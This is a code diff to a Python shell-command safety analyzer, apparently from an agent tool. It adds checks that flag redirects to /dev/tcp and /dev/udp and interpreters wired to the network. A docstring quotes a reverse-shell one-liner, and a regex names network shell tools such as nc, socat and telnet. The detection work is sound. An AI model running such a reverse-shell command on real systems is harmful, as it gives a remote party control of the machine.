@@ -35,9 +35,10 @@ class Feed:
     """What a command reads on stdin, as far as the command line says."""
 
     kind: str = "none"  # none (nothing redirected) | data (known bytes) | file (a path) | unseen
-    data: bytes = b""
+    data: bytes = b""  # for data: all of it; for unseen: the parts that can be seen (`(crontab -l; echo X)`)
     path: str = ""
     source: str = ""  # what produced it, for messages: "curl -s https://…"
+    piped: bool = False  # a file that reaches stdin through a pipe (`cat F | sh`), not a redirection
 
     @staticmethod
     def of(data: bytes | None, source: str = "") -> Feed:
@@ -127,6 +128,8 @@ class Analyzer:
     scripts: ScriptSource | None = None
     parts: list[Part] = field(default_factory=list)
     functions: dict[str, str] = field(default_factory=dict)  # name -> body text
+    aliases: set[str] = field(default_factory=set)  # names defined by `alias` in this command
+    written: dict[str, bytes | None] = field(default_factory=dict)  # files this command writes a stream to
     vars: dict[str, str | None] = field(default_factory=dict)  # statically known variables
     cwd: str | None = None
     seen_scripts: frozenset[str] = frozenset()
@@ -134,7 +137,8 @@ class Analyzer:
     # ------------------------------------------------------------------ entry points
 
     def child(self, depth: int) -> Analyzer:
-        return Analyzer(self.scripts, [], dict(self.functions), dict(self.vars), self.cwd, self.seen_scripts)
+        return Analyzer(self.scripts, [], dict(self.functions), set(self.aliases), dict(self.written),
+                        dict(self.vars), self.cwd, self.seen_scripts)
 
     def nested(self, code: str, depth: int, feed: Feed = NO_FEED) -> Classification:
         sub = self.child(depth)
@@ -152,7 +156,7 @@ class Analyzer:
             self.add((), Finding(DES, f"{origin} nests too deeply to check"), text, chain)
             return
         root = parse(text).root_node
-        if root.has_error:
+        if root.has_error or (";;" in text and _stray_case_end(root)):
             self.add((), Finding(UNKNOWN, f"cannot parse {origin}: {_error_hint(root)}; refusing to guess"), text, chain)
             self._recover(text, depth, chain)
         self.node(root, depth, chain, feed)
@@ -240,7 +244,9 @@ class Analyzer:
                 from vpsagent.safety.decode import output_of_procsub
 
                 return output_of_procsub(self, w.procsub)
-            return Feed("file", path=w.value) if not w.dynamic else Feed("unseen", source=f"< {w.value}")
+            if w.dynamic or w.value.startswith(("/dev/tcp/", "/dev/udp/")):
+                return Feed("unseen", source=f"< {w.value}")
+            return Feed("file", path=w.value)
         return None
 
     def writes(self, redirects: list[Node], content: Feed, body: Node | None, depth: int,
@@ -258,6 +264,11 @@ class Analyzer:
                 self.substitution(w.procsub, depth, chain)
             op = _op(r)
             text = text_of(body) + " " + text_of(r) if body is not None else text_of(r)
+            if w.value.startswith(("/dev/tcp/", "/dev/udp/")):
+                self.add((op, w.value), _network_redirect(body, w.value), text, chain)
+                continue
+            if op in (">", ">|", "&>") and not w.dynamic:
+                self.written[self.resolve(w.value)] = content.data if content.kind == "data" else None
             finding = judge_redirect(op, _fd(r), w, content, self, depth)
             if finding is not None:
                 self.add((op, w.value), finding, text, chain)
@@ -393,11 +404,35 @@ def _error_hint(root: Node) -> str:
     from vpsagent.safety.parse import descendants
 
     for n in descendants(root):
+        if n.type == ";;" and (n.parent is None or n.parent.type != "case_item"):
+            return "';;' outside a case"
         if n.is_missing:
             return f"'{n.type}' missing"
         if n.type == "ERROR":
             return f"unexpected {short(text_of(n), 20)!r}"
     return "a syntax error"
+
+
+_RUNS_INPUT = re.compile(r"^(.*/)?(sh|bash|dash|zsh|ksh|ash|mksh|busybox|python[\d.]*|perl|ruby|php|node|lua|nc|ncat|"
+                         r"netcat|socat|telnet)$")
+
+
+def _network_redirect(body: Node | None, target: str) -> Finding:
+    """`bash -i >& /dev/tcp/HOST/PORT 0>&1` hands a shell to the network; `echo x > /dev/tcp/…` sends data."""
+    prog = ""
+    if body is not None and body.type == "command":
+        name = body.child_by_field_name("name")
+        prog = text_of(name) if name is not None else ""
+    if _RUNS_INPUT.match(prog):
+        return Finding(DES, f"{prog} is connected to {target}: a shell or interpreter driven from the network")
+    return Finding(CHANGE, f"sends data to {target}")
+
+
+def _stray_case_end(root: Node) -> bool:
+    """`;;` outside a case item: bash rejects it, tree-sitter does not."""
+    from vpsagent.safety.parse import descendants
+
+    return any(n.type == ";;" and (n.parent is None or n.parent.type != "case_item") for n in descendants(root))
 
 
 def _op(r: Node) -> str:
